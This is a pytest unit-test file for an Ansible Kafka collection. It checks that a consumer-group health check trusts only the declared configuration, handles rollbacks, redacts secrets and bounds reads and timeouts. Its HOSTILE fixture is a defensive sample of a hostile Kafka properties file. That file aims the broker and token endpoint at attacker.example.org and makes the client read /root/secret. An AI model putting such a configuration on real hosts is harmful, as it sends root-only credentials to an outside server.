# Copyright (c) 2026 the hopsworks.kafka authors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The consumer group is checked with what root knows; nothing that a user of the host wrote is followed."""

from __future__ import annotations

import os
import pathlib
import re
import socket
import time
import typing as t

import pytest
from ansible_collections.hopsworks.kafka.plugins.module_utils._brokers import group_membership
from ansible_collections.hopsworks.kafka.plugins.module_utils._brokers.cluster_client import (
    ClusterFault,
    ClusterMetadata,
)
from ansible_collections.hopsworks.kafka.plugins.module_utils._brokers.group_client import Description, Member
from ansible_collections.hopsworks.kafka.plugins.module_utils._brokers.group_membership import ConsumerGroup
from ansible_collections.hopsworks.kafka.plugins.module_utils._common.errors import InputError
from ansible_collections.hopsworks.kafka.plugins.module_utils._kafka.declaration import KafkaDeclaration
from ansible_collections.hopsworks.kafka.plugins.module_utils._onlinefs import health_check
from ansible_collections.hopsworks.kafka.plugins.module_utils._onlinefs.host_error import HostError
from ansible_collections.hopsworks.kafka.plugins.module_utils._onlinefs.service import State
from ansible_collections.hopsworks.kafka.plugins.module_utils._onlinefs.transaction import RolledBack

from tests.unit.kafka import pki
from tests.unit.onlinefs.support import Home, Service

TLS = {"bootstrap.servers": "declared:1", "security.protocol": "SSL"}
#: Each makes a client open a file, run something or connect to somewhere.
HOSTILE = """\
bootstrap.servers = attacker.example.org:1
security.protocol = SASL_SSL
sasl.mechanism = OAUTHBEARER
sasl.oauthbearer.token.endpoint.url = http://attacker.example.org/
sasl.oauthbearer.assertion.file = /root/secret
ssl.truststore.location = /root/secret
ssl.keystore.location = ${file:/root/secret:key}
group.id = onlinefs_rondb
client.id = onlinefs_h1_1
"""


class Asked:
    """Stands in for Kafka. Keeps the clients that it was asked with, once for each check."""

    def __init__(self) -> None:
        self.joined: bool | None = True
        self.clients: list[KafkaDeclaration] = []
        self.client_ids: list[str] = []
        self.before: list[frozenset[str]] = []

    def members(self, _client: KafkaDeclaration, _secure: object, _group: str, _seconds: float) -> frozenset[str]:
        self.before.append(frozenset({f"old-{len(self.before)}"}))
        return self.before[-1]

    def look(
        self,
        client: KafkaDeclaration,
        _secure: object,
        group: str,
        client_id: str,
        _seconds: float,
        ignored: t.Collection[str] = (),
    ) -> ConsumerGroup:
        if not self.clients or self.clients[-1] is not client:
            self.clients.append(client)
            self.client_ids.append(client_id)
        assert tuple(ignored) == tuple(self.before[-1] if self.before else ())
        partitions = [{"topic": "a_onlinefs", "partition": 0, "lag": None}]
        own = {"group": group, "member_id": "m", "client_id": client_id, "partitions": partitions, "lag": None}
        joined = self.joined
        return ConsumerGroup(group, client_id, joined, "why", True, True, 1, 1, own=(own,) if joined else ())


@pytest.fixture
def asked(monkeypatch: pytest.MonkeyPatch) -> Asked:
    made = Asked()
    monkeypatch.setattr(group_membership, "look", made.look)
    monkeypatch.setattr(group_membership, "member_ids", made.members)
    return made


class Altering(Service):
    """A service whose user replaces its own configuration as soon as it is restarted."""

    def restart(self) -> None:
        super().restart()
        (self._home / "etc/onlinefs-kafka.properties").write_text(HOSTILE)


def test_the_desired_configuration_is_checked_and_not_what_is_live_after_the_restart(home: Home, asked: Asked) -> None:
    home.run(
        Altering(home.path), properties=TLS, truststore={"content": pki.authority().pem}, verify_consumer_group=True
    )
    [client] = asked.clients
    assert client.properties["bootstrap.servers"] == "declared:1" and asked.client_ids == ["onlinefs_h1_1"]
    assert client.truststore and not any("assertion" in name or "location" in name for name in client.properties)


def test_the_configuration_from_before_the_first_run_is_not_followed(home: Home, asked: Asked) -> None:
    (home.etc / "onlinefs-kafka.properties").write_text(HOSTILE)
    result = home.run(verify_consumer_group=True)
    assert result["health"]["group"]["joined"]
    result = home.run(state="reverted", verify_consumer_group=True)
    assert len(asked.clients) == 1
    assert result["health"]["group"]["joined"] is None and "root does not follow it" in result["warnings"][-1]
    assert not result["proved"] and "root does not follow it" in result["not_proved"][0]


def test_after_a_rollback_what_somebody_else_wrote_is_not_followed(home: Home, asked: Asked) -> None:
    (home.etc / "onlinefs-kafka.properties").write_text(HOSTILE)
    asked.joined = False
    with pytest.raises(RolledBack, match=r"the service runs with it\. Not proved that it reads from Kafka: ") as caught:
        home.run(verify_consumer_group=True)
    assert len(asked.clients) == 1 and caught.value.second is None and "works with it" not in str(caught.value)


def test_after_a_rollback_the_kept_configuration_is_checked(home: Home, asked: Asked) -> None:
    home.run(properties={"bootstrap.servers": "first:1"}, verify_consumer_group=True)
    asked.joined = False
    with pytest.raises(RolledBack, match="does not work with it either"):
        home.run(properties={"bootstrap.servers": "second:1"}, verify_consumer_group=True)
    assert [client.properties["bootstrap.servers"] for client in asked.clients] == ["first:1", "second:1", "first:1"]
    assert asked.client_ids == ["onlinefs_h1_1", "onlinefs_h1_2", "onlinefs_h1_1"]


def test_a_host_that_needs_no_change_is_checked_also_where_its_past_is_lost(home: Home, asked: Asked) -> None:
    home.run()
    for path in home.state.rglob("*"):
        if path.is_file():
            path.unlink()
    for path in sorted(home.state.rglob("*"), reverse=True):
        path.rmdir()
    result = home.run(health_check="always", verify_consumer_group=True)
    assert not result["changed"] and result["health"]["group"]["joined"] and len(asked.clients) == 1


def test_stores_come_from_the_configuration_and_not_from_the_host(
    home: Home, asked: Asked, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The store on the host is a pipe by then."""

    class Piped(Service):
        def restart(self) -> None:
            super().restart()
            for store in (self._home / "etc").glob("*.jks"):
                store.unlink()
                os.mkfifo(store)

    home.run(Piped(home.path), properties=TLS, truststore={"content": pki.authority().pem}, verify_consumer_group=True)
    assert asked.clients[0].truststore


@pytest.mark.parametrize("kind", ["pipe", "endless", "missing"])
def test_a_store_of_somebody_else_is_read_with_a_bound(home: Home, asked: Asked, kind: str) -> None:
    """A path in the declaration: the service's user may have placed anything there. Nothing is proved with it."""
    store = home.path / "ca.jks"
    if kind == "pipe":
        os.mkfifo(store)
    elif kind == "endless":
        store.symlink_to("/dev/zero")
    declared = {**TLS, "ssl.truststore.location": str(store), "ssl.truststore.password": "changeit"}
    with pytest.raises(RolledBack, match=rf"Kafka could not be asked for its members: .*{store}"):
        home.run(properties=declared, verify_consumer_group=True)
    assert not asked.clients


@pytest.mark.parametrize("kind", ["pipe", "endless"])
def test_a_store_for_remote_src_is_read_with_a_bound(home: Home, tmp_path: pathlib.Path, kind: str) -> None:
    path = tmp_path / "ca.pem"
    if kind == "pipe":
        os.mkfifo(path)
    else:
        path.symlink_to("/dev/zero")
    with pytest.raises(InputError, match=rf"truststore {path}: not a regular file"):
        home.run(properties=TLS, truststore={"path": str(path), "remote_src": True})
    assert not home.state.exists()


def test_a_reason_from_kafka_is_shown_without_secrets(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    def refused(_client: object, _secure: object, group: str, client_id: str, *_more: object) -> ConsumerGroup:
        return ConsumerGroup(group, client_id, False, "login with the-canary-password refused", final=True)

    monkeypatch.setattr(group_membership, "look", refused)
    monkeypatch.setattr(group_membership, "member_ids", lambda *_: frozenset())
    jaas = (
        'org.apache.kafka.common.security.plain.PlainLoginModule required username="u" password="the-canary-password";'
    )
    declared = {
        "bootstrap.servers": "k:1",
        "security.protocol": "SASL_PLAINTEXT",
        "sasl.mechanism": "PLAIN",
        "sasl.jaas.config": jaas,
    }
    with pytest.raises(RolledBack, match=r"login with \*+ refused"):
        home.run(properties=declared, verify_consumer_group=True)


def test_a_crash_while_the_group_is_checked_rolls_back(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    before = home.files()

    def broken(*_arguments: object) -> t.NoReturn:
        raise RuntimeError("canary")

    monkeypatch.setattr(group_membership, "look", broken)
    monkeypatch.setattr(group_membership, "member_ids", broken)
    with pytest.raises(RolledBack, match=r"defect in hopsworks\.kafka: RuntimeError") as caught:
        home.run(verify_consumer_group=True)
    assert home.files() == before and home.restarts == 2 and "canary" not in str(caught.value)


def test_a_name_server_that_never_answers_is_not_waited_for(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(socket, "create_connection", lambda *_more, **_named: time.sleep(120))
    monkeypatch.setattr(health_check, "_LOOK_SECONDS", 0.5)
    monkeypatch.setattr(health_check, "_BEFORE_SECONDS", 0.5)
    before, began = home.files(), time.monotonic()
    with pytest.raises(RolledBack, match="could not be asked for its members: Kafka did not answer in time"):
        home.run(verify_consumer_group=True)
    assert time.monotonic() - began < 15 and home.files() == before


# --- members that prove nothing --------------------------------------------------------------------------------------


class Kafka:
    """Describes a group whose members a test sets, through the real conclusions of the check."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.members: list[Member] = []
        self.state = "Stable"
        self.fault: ClusterFault | None = None
        self.looks = 0
        monkeypatch.setattr(group_membership, "GroupClient", lambda *_: self)
        self.certificates: dict[str, bytes] = {}
        self.secrets: set[str] = set()

    def cut(self) -> None: ...

    def __enter__(self) -> Kafka:
        return self

    def __exit__(self, *_: object) -> None: ...

    def describe(self, _group: str) -> Description:
        self.looks += 1
        if self.fault:
            raise self.fault
        return Description(self.state, tuple(self.members))

    def committed(self, _group: str) -> dict[tuple[str, int], int]:
        return {}

    def metadata(self, _topics: object = ()) -> ClusterMetadata:
        return ClusterMetadata("a-cluster", {}, {}, {})

    def offsets(self, _partitions: object, _at: int) -> dict[t.Any, t.Any]:
        return {}


def member(member_id: str, client_id: str, *partitions: int) -> Member:
    return Member(member_id, client_id, "/h", tuple(("a_onlinefs", number) for number in partitions))


class Joining(Service):
    """A service that becomes a member of the group when it is restarted; dead ones stay there, as Kafka lets them."""

    def __init__(self, home: Home, kafka: Kafka, joins: t.Callable[[str], bool] = lambda _client_id: True) -> None:
        super().__init__(home.path)
        self._kafka = kafka
        self._joins = joins
        self._starts = 0

    def restart(self) -> None:
        super().restart()
        self._starts += 1
        text = (self._home / "etc/onlinefs-kafka.properties").read_text()
        found = re.search(r"client\.id\s*=\s*(\S+)", text)
        client_id = found.group(1) if found else ""
        if self._joins(client_id):
            self._kafka.members.append(member(f"{client_id}-{self._starts}", client_id, self._starts))


FIRST, SECOND = {"bootstrap.servers": "first:1"}, {"bootstrap.servers": "second:1"}


def test_what_was_proved_is_in_the_result(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    kafka = Kafka(monkeypatch)
    service = Joining(home, kafka)
    result = home.run(service, properties=FIRST, verify_consumer_group=True)
    assert result["proved"] and result["not_proved"] == [] and result["cluster_id"] == "a-cluster"
    [found] = result["members"]
    assert (found["group"], found["client_id"], found["lag"]) == ("onlinefs_rondb", "onlinefs_h1_1", None)
    assert found["partitions"] == [{"topic": "a_onlinefs", "partition": 1, "lag": None}]
    again = home.run(service, properties=FIRST, verify_consumer_group=True, check=True, health_check="always")
    assert again["members"] == result["members"] and again["proved"] and not again["changed"]
    assert again["generations"][-1]["proved"]


def test_the_dead_are_not_taken_for_the_living_after_a_rollback(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    """Killed hard, the member from before stays in the group until its session times out. Nothing reads any more."""
    kafka = Kafka(monkeypatch)
    home.run(Joining(home, kafka), properties=FIRST, verify_consumer_group=True)
    dead = Joining(home, kafka, lambda _client_id: False)
    with pytest.raises(RolledBack, match="does not work with it either") as caught:
        home.run(dead, properties=SECOND, verify_consumer_group=True)
    assert [each.client_id for each in kafka.members] == ["onlinefs_h1_1"]
    assert "onlinefs_h1_1 was there before the restart and has not joined again" in str(caught.value)


def test_after_a_rollback_a_new_member_with_the_old_name_is_the_proof(
    home: Home, monkeypatch: pytest.MonkeyPatch
) -> None:
    kafka = Kafka(monkeypatch)
    home.run(Joining(home, kafka), properties=FIRST, verify_consumer_group=True)
    with pytest.raises(RolledBack, match="and the service works with it"):
        home.run(
            Joining(home, kafka, lambda client_id: client_id.endswith("_1")),
            properties=SECOND,
            verify_consumer_group=True,
        )


def test_members_that_nobody_could_list_before_the_restart_leave_it_unproved(
    home: Home, monkeypatch: pytest.MonkeyPatch
) -> None:
    kafka = Kafka(monkeypatch)
    kafka.fault = ClusterFault("no answer")
    monkeypatch.setattr(health_check, "_BEFORE_SECONDS", 0.5)

    class Late(Joining):
        def restart(self) -> None:
            kafka.fault = None
            super().restart()

    with pytest.raises(RolledBack, match="which members were there before the restart"):
        home.run(Late(home, kafka), properties=FIRST, verify_consumer_group=True)


def test_a_kafka_that_no_consumer_has_ever_joined_is_asked_again(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    """It prepares itself for groups at the first question, and answers some moments later."""
    kafka = Kafka(monkeypatch)
    kafka.fault = ClusterFault("the coordinator is not ready")
    describe = kafka.describe

    def ready(group: str) -> Description:
        if kafka.looks == 2:
            kafka.fault = None
        return describe(group)

    monkeypatch.setattr(kafka, "describe", ready)
    assert home.run(Joining(home, kafka), properties=FIRST, verify_consumer_group=True)["proved"]
    assert kafka.looks > 3


def test_a_member_that_leaves_during_the_settle_time_is_no_proof(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    kafka = Kafka(monkeypatch)

    class Restless(Joining):
        def state(self) -> State:
            if kafka.looks >= 2 and kafka.members:
                last = kafka.members[-1]
                kafka.members[-1] = last._replace(member_id=f"{last.member_id}x")
            return super().state()

    with pytest.raises(RolledBack, match="did not stay in it"):
        home.run(
            Restless(home, kafka), properties=FIRST, verify_consumer_group=True, service_settle=1, service_timeout=5
        )


def test_a_member_without_partitions_waits_for_them(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    """The group is about to be rebalanced: Kafka names the members, and no partitions yet."""
    kafka = Kafka(monkeypatch)
    kafka.state = "PreparingRebalance"

    class Slow(Joining):
        def restart(self) -> None:
            super().restart()
            kafka.members[-1] = kafka.members[-1]._replace(partitions=())

        def state(self) -> State:
            if kafka.looks == 3:
                kafka.state = "Stable"
                kafka.members[-1] = kafka.members[-1]._replace(partitions=(("a_onlinefs", 0),))
            return super().state()

    result = home.run(Slow(home, kafka), properties=FIRST, verify_consumer_group=True, service_timeout=10)
    assert result["proved"] and result["members"][0]["partitions"] and kafka.looks > 3


@pytest.mark.parametrize("others", [True, False])
def test_a_member_without_partitions_for_good(home: Home, monkeypatch: pytest.MonkeyPatch, others: bool) -> None:
    """With more hosts than partitions one has none. A group without any partition reads nothing: that is no proof."""
    kafka = Kafka(monkeypatch)
    monkeypatch.setattr(health_check, "_NO_PARTITIONS_SECONDS", 0.5)
    if others:
        kafka.members.append(member("other-1", "onlinefs_h2_1", 0))

    class Idle(Joining):
        def restart(self) -> None:
            super().restart()
            kafka.members[-1] = kafka.members[-1]._replace(partitions=())

    result = home.run(Idle(home, kafka), properties=FIRST, verify_consumer_group=True, service_timeout=5)
    assert result["proved"] is others and result["members"][0]["partitions"] == []
    assert others or "joined, but reads nothing" in result["not_proved"][0]


def test_a_host_that_needs_no_change_fails_soon_without_kafka(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    kafka = Kafka(monkeypatch)
    monkeypatch.setattr(health_check, "UNCHANGED_SECONDS", 1.0)
    service = Joining(home, kafka)
    home.run(service, properties=FIRST, verify_consumer_group=True)
    kafka.fault = ClusterFault("127.0.0.1:1: Connection refused")
    began = time.monotonic()
    with pytest.raises(HostError, match=r"could not be asked .*refused.* verify_consumer_group to false"):
        home.run(service, properties=FIRST, verify_consumer_group=True, check=True, health_check="always")
    assert time.monotonic() - began < 5
    result = home.run(service, properties=FIRST, verify_consumer_group=False, check=True, health_check="always")
    assert not result["proved"] and result["not_proved"] and not result["members"]


def test_the_second_consumer_must_join_its_own_group(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    """If the site file names its properties. Here it joins nothing."""
    kafka = Kafka(monkeypatch)
    site = home.etc / "onlinefs-site.xml"
    named = "<kafka><propertiesFileVectorDb>onlinefs-kafka-vector-db.properties</propertiesFileVectorDb></kafka>"
    site.write_text(site.read_text().replace("</onlinefs>", f"{named}</onlinefs>"))
    groups = []

    def describe(group: str) -> Description:
        groups.append(group)
        return Description("Stable", tuple(kafka.members if group == "onlinefs_rondb" else ()))

    monkeypatch.setattr(kafka, "describe", describe)
    with pytest.raises(RolledBack, match="consumer group onlinefs_vectordb: no member onlinefs_h1_1 in it"):
        home.run(Joining(home, kafka), properties=FIRST, verify_consumer_group=True)
    assert {"onlinefs_rondb", "onlinefs_vectordb"} == set(groups)
